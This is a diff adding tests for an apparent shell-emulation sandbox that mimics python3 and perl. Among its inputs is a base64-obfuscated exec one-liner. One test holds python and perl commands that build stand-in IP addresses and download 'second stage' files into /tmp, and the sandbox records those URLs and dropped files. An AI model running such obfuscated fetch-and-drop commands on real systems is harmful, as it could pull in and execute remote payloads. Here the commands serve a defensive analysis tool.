@@ -31,6 +31,122 @@ describe('the interpreters', () => {
     );
   });
 
+  it.each([
+    ["python3 -c 'print(7*191)'", '1337\n'],
+    [`python3 -c 'exec(__import__("base64").b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQgLXUiKQ=="))'`, '0\n'],
+    [
+      `python3 -c 'import nosuchmodule'`,
+      'Traceback (most recent call last):\n  File "<string>", line 1, in <module>\nModuleNotFoundError: No module named \'nosuchmodule\'\n',
+    ],
+    [
+      `python3 -c 'print "a"'`,
+      '  File "<string>", line 1\n    print "a"\n          ^\nSyntaxError: Missing parentheses in call to \'print\'. Did you mean print("a")?\n',
+    ],
+    [
+      `printf 'def f():\\n    return x\\nf()\\n' > /tmp/a.py; python3 /tmp/a.py`,
+      'Traceback (most recent call last):\n  File "/tmp/a.py", line 3, in <module>\n    f()\n  File "/tmp/a.py", line 2, in f\n    return x\nNameError: name \'x\' is not defined\n',
+    ],
+    [`echo 'print(open("/etc/hostname").read().strip() != "")' | python3`, 'True\n'],
+    [`python3 - a b <<'E'\nimport sys\nprint(sys.argv)\nE`, "['-', 'a', 'b']\n"],
+    [`printf '#!/usr/bin/perl\\nprint "hi @ARGV\\\\n";' > /tmp/s; chmod +x /tmp/s; /tmp/s a b`, 'hi a b\n'],
+    [`printf 'a b\\nc d\\n' | perl -lane 'print $F[1]'`, 'b\nd\n'],
+    [`perl -e 'print "A"x10, unpack("H*", pack("N", 1))'`, 'AAAAAAAAAA00000001'],
+    [`perl -e 'nosuch(1)'`, 'Undefined subroutine &main::nosuch called at -e line 1.\n'],
+  ])('run %s', (command, output) => {
+    const run = runShell('linux-gnu', command);
+    expect(run.fault).toBeNull();
+    expect(run.output).toBe(output);
+  });
+
+  it('record the second stages that a script makes up, and keep what it writes', () => {
+    const run = runShell(
+      'linux-gnu',
+      `python3 -c 'import urllib.request as r\nh = ".".join(["203","0","113","8"])\nr.urlretrieve("http://" + h + "/b", "/tmp/b")\nopen("/tmp/c", "w").write("dropped " * 2)'; perl -MLWP::Simple -e 'getstore("http://203.0.113." . 7 . "/p", "/tmp/p")'; ls /tmp/b /tmp/p; cat /tmp/c`,
+    );
+    expect(run.urls).toEqual(expect.arrayContaining(['http://203.0.113.8/b', 'http://203.0.113.7/p']));
+    expect(run.output).toBe('/tmp/b\n/tmp/p\ndropped dropped ');
+    expect(run.captures.map(({ text }) => text)).toContain('dropped dropped ');
+  });
+
+  it.each(['python3 -c', 'perl -e'])(
+    '%s: any text ends in an outcome, within the bounds of the shell',
+    (call) => {
+      const words = fc.constantFrom(
+        'print',
+        '(',
+        ')',
+        '"a"',
+        "b'x'",
+        'x',
+        '=',
+        '+',
+        '**',
+        '9',
+        '99999999',
+        '[',
+        ']',
+        '{',
+        '}',
+        ':',
+        ',',
+        '\n',
+        '\n  ',
+        'for',
+        ' in ',
+        'if',
+        'def f',
+        'lambda',
+        'range',
+        'while 1',
+        'import os',
+        '.',
+        '%',
+        '$x',
+        '@a',
+        'my ',
+        ';',
+        '=~ s/a/b/g',
+        'sub f',
+        'map',
+        'x 99999999',
+        '<STDIN>',
+        '<<E',
+        'eval',
+        '..',
+        'f()',
+        '#',
+        '\\',
+        'class A',
+        'try',
+        'except',
+        'yield',
+        '\0',
+        '\u00ff',
+      );
+      fc.assert(
+        fc.property(
+          fc.oneof(
+            fc.array(words, { maxLength: 20 }).map((texts) => texts.join('')),
+            fc.string({ maxLength: 60, unit: 'binary-ascii' }),
+          ),
+          (text) => {
+            const run = runShell('linux-gnu', `${call} '${text.replaceAll("'", `'\\''`)}'`);
+            expect(run.fault).toBeNull();
+          },
+        ),
+        { numRuns: 120 },
+      );
+    },
+  );
+
+  it('end a script without end', () => {
+    expect(runShell('linux-gnu', `python3 -c 'while True: pass'`).status).toBe(137);
+    expect(runShell('linux-gnu', `perl -e '1 while 1'`).status).toBe(137);
+    expect(runShell('linux-gnu', `python3 -c 'def f(): f()\nf()' 2>&1 | tail -1`).output).toContain(
+      'RecursionError: maximum recursion depth exceeded',
+    );
+  });
+
   it('read any text within their bounds', () => {
     fc.assert(
       fc.property(fc.string({ maxLength: 400, unit: 'binary-ascii' }), (text) => {
